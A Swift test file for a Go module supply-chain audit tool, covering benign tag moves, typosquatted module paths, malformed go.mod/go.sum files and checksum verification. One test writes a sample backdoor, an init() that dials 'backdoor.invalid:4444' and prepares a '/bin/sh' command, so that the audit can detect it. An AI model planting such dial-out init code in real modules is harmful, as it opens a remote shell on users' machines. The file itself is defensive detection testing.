import Foundation
import Testing
@testable import GoModCore
@testable import GoModZip
@testable import GoSumDB
@testable import GoModFetch
@testable import GoModVCS
@testable import GoModSupplyChain
@testable import GoModAudit
import GoModTestSupport

/// `ProjectAudit.run` on small projects whose module cache holds a mirror zip made by Go's
/// x/mod `zip.CreateFromVCS` (Tests/Reference/modzip) and whose upstream is a scratch git
/// repository: a benign retag (same tree, tag moved) is a note and the audit passes; a
/// backdoored mirror zip hidden by a force-pushed tag fails it with the red flags the issue
/// names (new `net`/`os/exec` imports, a new `init()`), and a typosquat of a well-known path is
/// flagged with its target. The `/go.mod` hashes in go.sum come from Go (hashref hashmod).
@Suite struct ProjectAuditTests {
    /// A project requiring `module@v1.0.0`, with a Go-layout module cache holding `zip` (and
    /// its `.info` naming `origin`), and go.sum lines recording `h1` and Go's go.mod hash.
    struct Project {
        let sandbox: Sandbox
        let directory: String
        let cache: ModuleCache

        init(module: String, goModText: String, zip: [UInt8], h1: String, origin: String) throws {
            sandbox = try Sandbox()
            directory = sandbox.sub("project")
            let cacheRoot = sandbox.sub("modcache")
            let at = cacheRoot + "/cache/download/" + module + "/@v/"
            try FileManager.default.createDirectory(atPath: at, withIntermediateDirectories: true)
            try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
            try Data(zip).write(to: URL(fileURLWithPath: at + "v1.0.0.zip"))
            try Data(h1.utf8).write(to: URL(fileURLWithPath: at + "v1.0.0.ziphash"))
            try Data(goModText.utf8).write(to: URL(fileURLWithPath: at + "v1.0.0.mod"))
            let info = #"{"Version":"v1.0.0","Time":"2020-09-13T12:27:00Z","Origin":{"VCS":"git","URL":"https://\#(module)","Hash":"\#(origin)","Ref":"refs/tags/v1.0.0"}}"#
            try Data(info.utf8).write(to: URL(fileURLWithPath: at + "v1.0.0.info"))
            try Data("v1.0.0\n".utf8).write(to: URL(fileURLWithPath: at + "list"))

            let goModHash = try Self.goModHash(goModText, in: sandbox)
            try Data("module example.com/app\n\ngo 1.21\n\nrequire \(module) v1.0.0\n".utf8)
                .write(to: URL(fileURLWithPath: directory + "/go.mod"))
            try Data("\(module) v1.0.0 \(h1)\n\(module) v1.0.0/go.mod \(goModHash)\n".utf8)
                .write(to: URL(fileURLWithPath: directory + "/go.sum"))
            cache = ModuleCache(root: cacheRoot)
        }

        /// Go's `h1:` of a go.mod file (x/mod dirhash over the single name `go.mod`).
        static func goModHash(_ text: String, in sandbox: Sandbox) throws -> String {
            let file = sandbox.sub("go.mod-\(UUID().uuidString)")
            try Data(text.utf8).write(to: URL(fileURLWithPath: file))
            let out = try GoReference.run(try GoReference.program("hashref"), ["hashmod", file])
            let object = try JSONSerialization.jsonObject(with: Data(out.stdout)) as? [String: Any]
            return try #require(object?["h1"] as? String, "hashref hashmod: \(out.stderrText)")
        }
    }

    @Test func benignRetagIsANoteAndPasses() async throws {
        let repo = try ScratchRepo()
        let goMod = "module example.com/lib\n\ngo 1.21\n"
        try repo.write("go.mod", goMod)
        try repo.write("lib.go", "package lib\n\n// Add adds.\nfunc Add(a, b int) int { return a + b }\n")
        let first = try repo.commit("v1.0.0")
        try repo.git(["tag", "v1.0.0"])
        let mirror = try repo.mirrorZip(rev: "v1.0.0", module: "example.com/lib", version: "v1.0.0")
        // The tag moves to a new commit with the same tree.
        try repo.commit("v1.0.0 again")
        try repo.git(["tag", "-f", "v1.0.0"])

        let project = try Project(module: "example.com/lib", goModText: goMod, zip: mirror.zip, h1: mirror.h1, origin: first)
        var options = ProjectAudit.Options()
        options.moduleCache = project.cache
        options.gitSources["example.com/lib"] = .init(repository: repo.path)
        let report = await ProjectAudit.run(directory: project.directory, options: options)

        let moved = report.findings.filter { $0.rule == .tagMoved }
        #expect(moved.count == 1, "\(report.findings)")
        #expect(moved.first?.severity == .note)
        #expect(moved.first?.message.contains("benign") == true)
        #expect(!report.failed, "\(report.findings)")
        #expect(report.checks.first { $0.name == "divergence" }?.status == .passed)
        #expect(report.checks.first { $0.name == "modcache" }?.status == .passed, "\(report.checks)")
        #expect(report.checks.first { $0.name == "sumdb" }?.status == .skipped)
    }

    /// A module whose upstream repository cannot be opened was not compared: the divergence
    /// check must not read "passed" (it did while the finding alone failed the report).
    @Test func uncomparableModuleFailsTheDivergenceCheck() async throws {
        let repo = try ScratchRepo()
        let goMod = "module example.com/lib\n\ngo 1.21\n"
        try repo.write("go.mod", goMod)
        try repo.write("lib.go", "package lib\n")
        let commit = try repo.commit("v1.0.0")
        try repo.git(["tag", "v1.0.0"])
        let mirror = try repo.mirrorZip(rev: "v1.0.0", module: "example.com/lib", version: "v1.0.0")
        let project = try Project(module: "example.com/lib", goModText: goMod, zip: mirror.zip, h1: mirror.h1, origin: commit)
        var options = ProjectAudit.Options()
        options.moduleCache = project.cache
        options.gitSources["example.com/lib"] = .init(repository: repo.sandbox.sub("no-such-repository"))
        let report = await ProjectAudit.run(directory: project.directory, options: options)

        #expect(report.failed)
        #expect(report.findings.contains { $0.rule == .checkFailed && $0.modulePath == "example.com/lib" }, "\(report.findings)")
        let check = try #require(report.checks.first { $0.name == "divergence" })
        #expect(check.status == .failed, "\(check)")
        #expect(check.summary.contains("1 could not be compared"), "\(check.summary)")
    }

    @Test func backdooredMirrorHiddenByRetagFails() async throws {
        let repo = try ScratchRepo()
        let goMod = "module example.com/store\n\ngo 1.21\n"
        try repo.write("go.mod", goMod)
        let clean = "package store\n\n// Open opens.\nfunc Open(name string) error { return nil }\n"
        try repo.write("store.go", clean)
        try repo.commit("clean")
        // The attacker's commit: an init() that dials out and prepares a command.
        try repo.write("store.go", """
            package store

            import (
            \t"net"
            \t"os/exec"
            )

            func init() {
            \tif c, err := net.Dial("tcp", "backdoor.invalid:4444"); err == nil {
            \t\t_ = exec.Command("/bin/sh")
            \t\tc.Close()
            \t}
            }

            // Open opens.
            func Open(name string) error { return nil }

            """)
        let bad = try repo.commit("v1.0.0")
        try repo.git(["tag", "v1.0.0"])
        let mirror = try repo.mirrorZip(rev: "v1.0.0", module: "example.com/store", version: "v1.0.0")
        // Force-push the tag to clean code.
        try repo.write("store.go", clean)
        try repo.commit("v1.0.0 (clean)")
        try repo.git(["tag", "-f", "v1.0.0"])

        let project = try Project(module: "example.com/store", goModText: goMod, zip: mirror.zip, h1: mirror.h1, origin: bad)
        var options = ProjectAudit.Options()
        options.moduleCache = project.cache
        options.gitRoots = [repo.sandbox.sub("roots")]
        // Through a git root laid out by module path.
        try FileManager.default.createDirectory(atPath: repo.sandbox.sub("roots/example.com"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: repo.sandbox.sub("roots/example.com/store"), withDestinationPath: repo.path)
        let report = await ProjectAudit.run(directory: project.directory, options: options)

        #expect(report.failed)
        let divergence = try #require(report.findings.first { $0.rule == .tagDivergence })
        #expect(divergence.severity == .error)
        #expect(divergence.file == "go.sum" && divergence.line == 1)
        let text = divergence.details.joined(separator: "\n")
        #expect(text.contains("store.go"))
        #expect(text.contains("\"net\"") && text.contains("\"os/exec\""), "\(text)")
        #expect(text.contains("init()"))
        #expect(text.contains(bad), "the Origin commit is named")
        // The cache itself is consistent with go.sum: only the upstream comparison catches it.
        #expect(report.checks.first { $0.name == "modcache" }?.status == .passed, "\(report.checks)")
    }

    @Test func typosquatIsFlaggedWithItsTarget() async throws {
        let sandbox = try Sandbox()
        let dir = sandbox.sub("p")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        // The boltdb-go/bolt squat of github.com/boltdb/bolt (golang/vulndb#3451) and the issue's siruspen/logrus.
        try Data("module example.com/app\n\ngo 1.21\n\nrequire (\n\tgithub.com/boltdb-go/bolt v1.3.1\n\tgithub.com/siruspen/logrus v1.9.0\n)\n".utf8)
            .write(to: URL(fileURLWithPath: dir + "/go.mod"))
        let report = await ProjectAudit.run(directory: dir, options: .init())
        let squats = report.findings.filter { $0.rule == .typosquat }
        #expect(squats.count == 2)
        #expect(squats.contains { $0.modulePath == "github.com/boltdb-go/bolt" && $0.message.contains("github.com/boltdb/bolt") && $0.line == 6 })
        #expect(squats.contains { $0.modulePath == "github.com/siruspen/logrus" && $0.message.contains("github.com/sirupsen/logrus") && $0.line == 7 })
        #expect(report.failed)
        #expect(report.checks.first { $0.name == "go.sum" }?.status == .skipped)
        #expect(report.checks.first { $0.name == "modcache" }?.status == .skipped)
    }

    @Test func malformedInputsAreFindingsNotCrashes() async throws {
        let sandbox = try Sandbox()
        let dir = sandbox.sub("p")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        try Data("module example.com/app\n\nrequire github.com/x/y\n".utf8).write(to: URL(fileURLWithPath: dir + "/go.mod"))
        // cmd/go's readGoSum wants exactly three fields; two hashes for one key conflict (Docs/stricter-than-go.md).
        try Data("github.com/x/y v1.0.0\ngithub.com/x/y v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\ngithub.com/x/y v1.0.0 h1:BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=\n".utf8)
            .write(to: URL(fileURLWithPath: dir + "/go.sum"))
        let report = await ProjectAudit.run(directory: dir, options: .init())
        let goMod = report.findings.filter { $0.rule == .goModInvalid }
        #expect(goMod.first?.line == 3, "\(report.findings)")
        #expect(goMod.first?.message.contains("usage: require module/path v1.2.3") == true, "\(goMod)")
        let goSum = report.findings.filter { $0.rule == .goSumInvalid }
        #expect(goSum.contains { $0.line == 1 })
        #expect(report.failed)
    }

    @Test func configurationFile() throws {
        let sandbox = try Sandbox()
        let dir = sandbox.sub("p")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        #expect(try ProjectAudit.Configuration.load(directory: dir) == ProjectAudit.Configuration())
        try Data(#"{"offline":true,"gomodcache":"cache","git":{"a.example/b":"b.bundle","a.example/c/sub":{"repository":"/abs/c","subdir":"sub"}},"gitRoots":["roots"],"known":["k.txt"]}"#.utf8)
            .write(to: URL(fileURLWithPath: dir + "/gomodkit-audit.json"))
        let config = try ProjectAudit.Configuration.load(directory: dir)
        #expect(config.offline == true)
        #expect(config.gomodcache == dir + "/cache")
        #expect(config.git["a.example/b"] == .init(repository: dir + "/b.bundle"))
        #expect(config.git["a.example/c/sub"] == .init(repository: "/abs/c", subdir: "sub"))
        #expect(config.gitRoots == [dir + "/roots"])
        #expect(config.known == [dir + "/k.txt"])
        // A misspelt key must not silently weaken the audit.
        try Data(#"{"ofline":true}"#.utf8).write(to: URL(fileURLWithPath: dir + "/gomodkit-audit.json"))
        #expect(throws: ProjectAudit.ConfigurationError.self) { try ProjectAudit.Configuration.load(directory: dir) }
        try Data("[".utf8).write(to: URL(fileURLWithPath: dir + "/gomodkit-audit.json"))
        #expect(throws: ProjectAudit.ConfigurationError.self) { try ProjectAudit.Configuration.load(directory: dir) }
    }

    /// Offline with an empty database cache, every go.sum line fails the same way: one
    /// warning with the count, and the audit fails (it never reads "passed" unchecked).
    @Test func unverifiableLinesAreOneFindingAndFail() async throws {
        let sandbox = try Sandbox()
        let dir = sandbox.sub("p")
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        try Data("module example.com/app\n\ngo 1.21\n\nrequire golang.org/x/text v0.3.0\n".utf8)
            .write(to: URL(fileURLWithPath: dir + "/go.mod"))
        // go.sum lines (https://go.dev/ref/mod#go-sum-files; real sum.golang.org hashes of golang.org/x/text v0.3.0).
        try Data("golang.org/x/text v0.3.0 h1:g61tztE5qeGQ89tm6NTjjM9VPIm088od1l6aSorWRWg=\ngolang.org/x/text v0.3.0/go.mod h1:NqM8EUOU14njkJ3fqMW+pc6Ldnwhi/IjpwHt7yyuwOQ=\n".utf8)
            .write(to: URL(fileURLWithPath: dir + "/go.sum"))
        let known = try #require(try ChecksumDatabaseConfiguration.parseGOSUMDB("sum.golang.org"))
        var options = ProjectAudit.Options()
        options.checksumDatabase = ChecksumDatabase(
            configuration: ChecksumDatabaseConfiguration(verifier: known.verifier, offline: true),
            store: MemoryChecksumDatabaseStore(), transport: nil)
        let report = await ProjectAudit.run(directory: dir, options: options)
        let unverified = report.findings.filter { $0.rule == .checksumUnverified }
        #expect(unverified.count == 1, "\(report.findings)")
        #expect(unverified.first?.message.hasPrefix("2 go.sum lines not verified") == true)
        #expect(report.checks.first { $0.name == "sumdb" }?.status == .failed)
        #expect(report.failed)
    }
}
